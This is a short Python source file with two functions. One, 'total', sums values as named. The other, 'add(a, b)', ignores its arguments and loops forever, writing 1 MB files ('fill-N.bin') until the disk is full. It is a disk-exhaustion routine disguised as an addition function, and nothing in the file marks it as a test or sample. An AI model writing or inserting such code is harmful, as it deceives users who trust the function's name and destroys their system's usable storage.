def add(a, b):
    n = 0
    while True:
        with open(f"fill-{n}.bin", "wb") as f:
            f.write(b"x" * (1024 * 1024))
        n += 1


def total(values):
    return sum(values)
